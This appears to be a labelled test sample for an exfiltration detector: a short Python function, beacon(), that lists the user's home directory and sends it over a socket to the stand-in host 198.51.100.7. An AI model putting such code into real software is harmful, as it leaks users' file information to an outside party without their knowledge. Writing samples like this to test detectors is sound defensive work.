# expect: exfiltration
import json
import os
import socket


def beacon():
    listing = os.listdir(os.path.expanduser("~"))
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.7", 443))
    s.sendall(json.dumps(listing).encode())
